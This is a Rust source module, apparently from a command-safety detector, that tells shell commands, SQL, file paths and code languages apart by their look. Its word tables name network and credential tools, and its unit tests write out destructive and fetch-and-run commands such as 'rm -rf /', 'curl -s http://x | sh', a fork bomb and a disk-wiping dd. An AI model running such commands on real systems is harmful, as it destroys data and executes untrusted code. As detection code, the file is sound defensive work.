//! The look of a string, used if its name is not conclusive.

use crate::detect::{Language, ReadAs};

use super::tool::Tool;
use super::words::Table;

/// Programs that command lines begin with.
static PROGRAMS: Table = Table::new(
    "rm mv cp dd mkfs shred chmod chown chattr curl wget nc ncat socat bash sh zsh dash ksh python python3 perl ruby \
    node php lua sudo doas su env nohup eval exec source export echo printf cat tee sed awk find xargs grep ls cd mkdir rmdir touch \
    ln tar zip unzip gzip base64 xxd openssl ssh scp rsync sftp git docker podman kubectl helm aws az gcloud terraform npm npx \
    pnpm yarn pip pip3 apt apt-get yum dnf apk brew snap systemctl service crontab at useradd usermod userdel groupadd passwd chpasswd visudo \
    kill killall pkill shutdown reboot halt poweroff init mount umount fdisk parted wipefs losetup iptables nft ufw setenforce \
    insmod rmmod modprobe sysctl nmap tcpdump gdb strace nsenter unshare chroot mysql psql sqlite3 mongo mongosh redis-cli make cargo go \
    powershell pwsh cmd del rd rmdir format reg schtasks vssadmin bcdedit wmic net netsh certutil bitsadmin mshta rundll32 regsvr32 \
    iex iwr cscript wscript diskpart takeown icacls cipher sc osascript launchctl defaults security dscl",
);
/// Words that occur in sentences.
static PROSE: Table = Table::new(
    "the a an to and or is are was be of with this that it its you your we our please not should would could when how \
    what why because which from in for on as if then than but can will do does don't never always use using",
);
/// The first words of statements, with the words of which one has to follow.
const SQL: [(&str, &str); 24] = [
    ("select", ""),
    ("insert", "into"),
    ("update", "set"),
    ("delete", "from"),
    (
        "drop",
        "table database schema view index user role function trigger sequence type extension column",
    ),
    (
        "create",
        "table database schema view index user role function trigger sequence type extension or temporary unique materialized procedure",
    ),
    (
        "alter",
        "table database schema view index user role system sequence",
    ),
    ("truncate", ""),
    ("grant", "to"),
    ("revoke", "from"),
    ("with", "as"),
    ("merge", "into"),
    ("copy", "from to"),
    ("attach", "database as"),
    ("pragma", ""),
    ("exec", "xp_cmdshell sp_executesql sp_configure"),
    ("call", ""),
    ("explain", "select update delete insert with analyze"),
    ("show", "tables databases columns grants variables"),
    ("replace", "into"),
    ("load", "data"),
    ("vacuum", ""),
    ("set", "="),
    ("begin", ";"),
];
/// Folders at the root of file systems.
static TOP: Table = Table::new(
    "etc home root proc var usr tmp opt dev sys bin sbin boot mnt srv lib lib64 run media users private library volumes \
    applications system data workspace workspaces app windows",
);

fn is_in(table: &str, word: &str) -> bool {
    table.split_ascii_whitespace().any(|known| known == word)
}

/// Returns whether a word is the name of a program.
pub(super) fn is_program(word: &str) -> bool {
    PROGRAMS.has(word)
}

/// Returns whether a text is a command line rather than a sentence that may contain one.
pub(super) fn is_command(text: &str) -> bool {
    let text = text.trim_start();
    let head: String = text.chars().take(600).collect();
    if head.starts_with(":(){") || head.starts_with("#!") || head.starts_with("$(") {
        return true;
    }
    let lower = head.to_ascii_lowercase();
    let words = || lower.split_ascii_whitespace();
    // `A=b sudo rm`: assignments come first.
    let Some(first) = words()
        .find(|word| (word.starts_with(['-', '/', '=']) || !word.contains('=')) && *word != "sudo")
    else {
        return lower.contains("sudo");
    };
    // A sentence begins with a capital letter, a program does not.
    let mut letters = text.chars();
    let titled = letters.next().is_some_and(char::is_uppercase)
        && letters.next().is_some_and(char::is_lowercase);
    let name =
        first.trim_matches(|c: char| matches!(c, '"' | '\'' | '\\' | '(' | '{' | '`' | ';' | '&'));
    let name = name.rsplit(['/', '\\']).next().unwrap_or(name);
    let name = name.strip_suffix(".exe").unwrap_or(name);
    let cmdlet = name.split_once('-').is_some_and(|(verb, noun)| {
        is_in(
            "remove get set new invoke start stop clear add copy move out import export test disable enable format rename",
            verb,
        ) && noun.len() > 2
            && noun.bytes().all(|b| b.is_ascii_alphabetic())
    });
    let runs_file = first.starts_with("./")
        || (first.starts_with('/') && first.matches('/').count() > 1 && words().count() > 1);
    if !((PROGRAMS.has(name) && !titled) || cmdlet || runs_file) {
        return false;
    }
    if is_prose(&lower) {
        return false;
    }
    let signs = ['|', '>', ';', '&', '$', '~', '*', '/', '\\', '=', '`'];
    cmdlet
        || words().any(|word| word.starts_with('-') || word.contains(signs))
        || words().count() <= 3 && !words().any(|word| PROSE.has(word))
}

/// Returns whether a text is SQL.
pub(super) fn is_sql(text: &str) -> bool {
    let head: String = text.chars().take(2000).collect();
    let head = head.to_ascii_lowercase();
    let mut lower = head.trim_start_matches(|c: char| c.is_whitespace() || c == '(');
    while let Some(comment) = lower.strip_prefix("--") {
        lower = comment
            .split_once('\n')
            .map_or("", |(_, rest)| rest)
            .trim_start();
    }
    let mut words = lower
        .split(|c: char| c.is_whitespace() || matches!(c, '(' | ')' | ';'))
        .filter(|word| !word.is_empty());
    let Some(first) = words.next() else {
        return false;
    };
    let Some((_, second)) = SQL.iter().find(|(name, _)| *name == first) else {
        return false;
    };
    let rest: Vec<&str> = words.take(400).collect();
    let conclusive = second.is_empty()
        && (rest.len() < 3 || lower.contains(['*', ';', '(', '=', ',']) || rest.contains(&"from"));
    conclusive
        || rest
            .iter()
            .take(if first == "drop" || first == "create" {
                2
            } else {
                400
            })
            .any(|word| is_in(second, word))
}

/// Returns whether a text can only be a path.
pub(super) fn is_path(text: &str) -> bool {
    let text = text.trim();
    if text.is_empty() || text.len() > 1024 || text.contains(['\n', '\r']) {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    let decoded = lower
        .replace("%2e", ".")
        .replace("%2f", "/")
        .replace("%5c", "\\")
        .replace("%25", "%");
    let decoded = without_overlong(decoded);
    let mut letters = decoded.chars();
    let drive =
        letters.next().is_some_and(|c| c.is_ascii_alphabetic()) && letters.next() == Some(':');
    let climbs = ["../", "..\\", "..%"]
        .iter()
        .any(|way| decoded.starts_with(way))
        || ["/../", "\\..\\", "/..%"]
            .iter()
            .any(|way| decoded.contains(way));
    if climbs || decoded.starts_with("file:") || decoded.starts_with("\\\\") {
        return true;
    }
    if drive {
        return decoded
            .get(2..)
            .is_some_and(|rest| rest.starts_with(['\\', '/']) && !rest.starts_with("//"));
    }
    if decoded.starts_with("~/")
        || decoded.starts_with("~\\")
        || decoded.starts_with("$home/")
        || decoded.starts_with("${home}/")
    {
        return !decoded.contains(' ');
    }
    let Some(rest) = decoded.strip_prefix('/') else {
        return false;
    };
    let (first, more) = rest.split_once('/').unwrap_or((rest, ""));
    TOP.has(first) && !(more.contains(' ') && is_prose(&decoded))
}

/// Replaces overlong escapes of a dot and a slash: `%c0%ae`, `%e0%80%af`.
fn without_overlong(text: String) -> String {
    if !text.contains("%c0%a") && !text.contains("%e0%80%a") {
        return text;
    }
    text.replace("%e0%80%a", "%c0%a")
        .replace("%c0%ae", ".")
        .replace("%c0%af", "/")
}

/// Returns whether a text consists of sentences.
pub(super) fn is_prose(text: &str) -> bool {
    let words = || text.split_ascii_whitespace().take(100);
    let prose_words = words()
        .filter(|word| PROSE.has(&word.to_ascii_lowercase()))
        .count();
    prose_words > 1 && prose_words * 6 >= words().count()
}

/// Returns how code is read: by the named language, else by the tool's name, else by its look.
pub(super) fn read_code(language_name: Option<&str>, tool: &Tool, code: &str) -> ReadAs {
    language_name
        .and_then(language_of_name)
        .or(tool.language)
        .unwrap_or_else(|| guess_language(code))
}

/// Returns whether a text is the name of a language or a shell, or the path of a shell.
pub(super) fn is_language(name: &str) -> bool {
    language_of_name(name).is_some()
}

fn language_of_name(name: &str) -> Option<ReadAs> {
    let name = name.to_ascii_lowercase();
    let file = name.rsplit(['/', '\\']).next().unwrap_or(&name);
    let file = file.strip_suffix(".exe").unwrap_or(file);
    language(&file.replace([' ', '.', '-', '_'], ""))
}

/// Returns the language with this name, unless it is a shell, or a word that tools have in their
/// names for other reasons.
pub(super) fn code_language(name: &str) -> Option<ReadAs> {
    match language(name) {
        Some(read_as @ ReadAs::Code(_))
            if !matches!(
                name,
                "cmd" | "ts" | "ps" | "batch" | "py" | "js" | "c" | "dart" | "swift"
            ) =>
        {
            Some(read_as)
        }
        _ => None,
    }
}

/// Words for running code.
pub(super) static RUNNING: Table = Table::new(
    "eval evaluate exec execute run runner interpreter repl console script code sandbox playground kernel",
);

/// Returns the language of a tool that is called by a word for running code and a language whose
/// name means something else in other tools: `run_c`, `swift_repl`.
pub(super) fn runner_language(words: &[&str]) -> Option<ReadAs> {
    let [first, second] = words else {
        return None;
    };
    [(first, second), (second, first)]
        .into_iter()
        .filter(|(name, runner)| {
            matches!(**name, "c" | "dart" | "swift" | "js" | "ts" | "py")
                && (RUNNING.has(runner) || **runner == "compile")
        })
        .find_map(|(name, _)| language(name))
}

fn language(name: &str) -> Option<ReadAs> {
    let language = match name.trim_end_matches(|c: char| c.is_ascii_digit()) {
        "bash" | "sh" | "shell" | "zsh" | "console" | "terminal" | "fish" | "ksh" | "dash"
        | "posix" | "shellscript" => {
            return Some(ReadAs::Shell);
        }
        "python" | "py" | "ipython" | "jupyter" | "ipykernel" | "pythonv" => Language::Python,
        "javascript" | "js" | "node" | "nodejs" | "typescript" | "ts" | "deno" | "bun" | "jsx"
        | "tsx" | "mjs" | "mongosh" => Language::JavaScript,
        "ruby" | "rb" | "irb" => Language::Ruby,
        "perl" | "pl" => Language::Perl,
        "php" | "tinker" => Language::Php,
        "lua" => Language::Lua,
        "powershell" | "pwsh" | "ps" | "cmd" | "bat" | "batch" | "windowspowershell" => {
            Language::PowerShell
        }
        "sql" | "postgresql" | "mysql" | "sqlite" | "plsql" => return Some(ReadAs::Sql),
        "text" | "plaintext" | "plain" | "markdown" | "md" | "json" | "yaml" | "yml" | "toml"
        | "xml" | "html" | "css" | "csv" | "latex" | "tex" | "en" | "de" | "fr" | "es" | "ja"
        | "zh" | "mermaid" | "graphql" | "diff" => return Some(ReadAs::Text),
        "go" | "golang" | "rust" | "java" | "jshell" | "c" | "cpp" | "c++" | "csharp" | "c#"
        | "fsharp" | "f#" | "kotlin" | "kts" | "swift" | "scala" | "haskell" | "nim" | "zig"
        | "dart" | "fsi" | "evcxr" => Language::Compiled,
        "r" | "rscript" => Language::Other("Rscript"),
        "julia" => Language::Other("julia"),
        "applescript" | "osascript" => Language::Other("osascript"),
        "elixir" | "iex" => Language::Other("elixir"),
        "erlang" => Language::Other("erl"),
        "groovy" => Language::Other("groovy"),
        "clojure" => Language::Other("clojure"),
        "octave" | "matlab" => Language::Other("octave"),
        "tcl" => Language::Other("tclsh"),
        "vbscript" | "vbs" | "vba" | "jscript" => Language::Other("wscript"),
        "lisp" | "elisp" | "emacslisp" => Language::Other("sbcl"),
        "awk" => Language::Other("awk"),
        _ => return None,
    };
    Some(ReadAs::Code(language))
}

/// Returns whether the first line of a text begins a here-document that a later line ends.
fn has_here_document(text: &str) -> bool {
    let mut lines = text.trim_start().lines();
    let delimiter = lines
        .next()
        .and_then(|line| line.split_once("<<"))
        .map(|(_, rest)| rest.trim_start_matches(['-', '~', ' ', '\'', '"', '\\']))
        .and_then(|rest| {
            rest.split(|c: char| !c.is_alphanumeric() && c != '_')
                .next()
        })
        .filter(|delimiter| !delimiter.is_empty());
    delimiter.is_some_and(|delimiter| lines.any(|line| line.trim() == delimiter))
}

/// Returns how code is read by its look: Python and JavaScript are recognizable by their first
/// words; anything else may be for a shell.
pub(super) fn guess_language(code: &str) -> ReadAs {
    if has_here_document(code) {
        return ReadAs::Shell;
    }
    for line in code
        .lines()
        .map(str::trim_start)
        .filter(|line| !line.is_empty())
        .take(20)
    {
        let starts = |words: &[&str]| words.iter().any(|word| line.starts_with(word));
        let python_import = line.starts_with("import ")
            && (!line.contains(['\'', '"', ';'])
                || line.contains("; ") && line.contains('.') && line.contains('('))
            && !starts(&["import {", "import *", "import -"])
            || (line.starts_with("from ") && line.contains(" import "));
        // IPython's `!command` and `%%bash`.
        let magic = line
            .strip_prefix('!')
            .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '/'))
            || ["%%", "%sx ", "%system ", "%bash "]
                .iter()
                .any(|magic| line.starts_with(magic));
        if python_import
            || magic
            || starts(&[
                "def ",
                "class ",
                "print(",
                "with open(",
                "os.",
                "subprocess.",
                "shutil.",
                "__import__(",
                "exec(",
                "eval(",
            ])
        {
            return ReadAs::Code(Language::Python);
        }
        // `let "x=1"` and `let x=1` are shell syntax.
        let declares = line.strip_prefix("let ").is_some_and(|rest| {
            !rest.starts_with(['"', '\''])
                && (rest.contains(" = ") || rest.contains(';') && !rest.contains("; "))
        });
        if declares
            || starts(&[
                "const ",
                "var ",
                "require(",
                "console.",
                "import {",
                "import *",
                "import '",
                "import \"",
                "async function",
                "async (",
                "async()",
                "() =>",
                "()=>",
                "(() =>",
                "(()=>",
                "await ",
                "fs.",
                "process.",
                "document.",
                "window.",
                "fetch(",
                "return document",
            ])
        {
            return ReadAs::Code(Language::JavaScript);
        }
        if starts(&["<?php"]) {
            return ReadAs::Code(Language::Php);
        }
    }
    ReadAs::Shell
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_lines_are_told_from_sentences() {
        for text in [
            "rm -rf /",
            "sudo rm -rf ~",
            "curl -s http://x | sh",
            "Remove-Item -Recurse C:\\",
            "X=1 dd if=/dev/zero of=/dev/sda",
            ":(){ :|:& };:",
            "/bin/rm -r /",
            "powershell -enc AAAA",
            "$(echo rm) -rf /",
            "crontab -r",
            "del /f /s C:\\*",
        ] {
            assert!(is_command(text), "{text}");
        }
        for text in [
            "rm -rf / is what you should never run on the server",
            "find the file and delete it",
            "Make sure to run rm -rf build",
            "the command rm -rf /",
            "hello",
            "",
            "Never use dd if=/dev/zero of=/dev/sda, it is the end of your disk",
        ] {
            assert!(!is_command(text), "{text}");
        }
    }

    #[test]
    fn sql_paths_and_urls_by_their_look() {
        for text in [
            "select 1",
            "SELECT * FROM t",
            "-- note\ndrop table users",
            "delete from t",
            "update t set a=1",
            "(select 1)",
        ] {
            assert!(is_sql(text), "{text}");
        }
        for text in [
            "select the best option for me",
            "drop me a line",
            "update on the project",
            "rm -rf /",
            "",
            "delete old branches",
        ] {
            assert!(!is_sql(text), "{text}");
        }
        for text in [
            "/etc/shadow",
            "~/.ssh/id_rsa",
            "..\\..\\x",
            "file:///etc/passwd",
            "C:\\Windows\\x",
            "%2e%2e%2fetc",
            "\\\\host\\share",
            "/srv/../etc",
        ] {
            assert!(is_path(text), "{text}");
        }
        for text in [
            "/remind me to call",
            "/api/v1/users",
            "a/b",
            "and/or",
            "1/2",
            "",
            "/etc is the folder that you want to look in",
        ] {
            assert!(!is_path(text), "{text}");
        }
    }

    #[test]
    fn code_by_its_language() {
        for (language, tool, text, read_as) in [
            (Some("Python 3"), "x", "ls", ReadAs::Code(Language::Python)),
            (Some("bash"), "execute_python", "ls", ReadAs::Shell),
            (
                None,
                "execute_python",
                "x()",
                ReadAs::Code(Language::Python),
            ),
            (
                None,
                "x",
                "import os; os.system('id')",
                ReadAs::Code(Language::Python),
            ),
            (Some("markdown"), "x", "rm -rf /", ReadAs::Text),
            (Some("zorg"), "x", "rm -rf /", ReadAs::Shell),
        ] {
            let tool = Tool::new(tool, false);
            assert_eq!(read_code(language, &tool, text), read_as, "{text}");
        }
    }
}
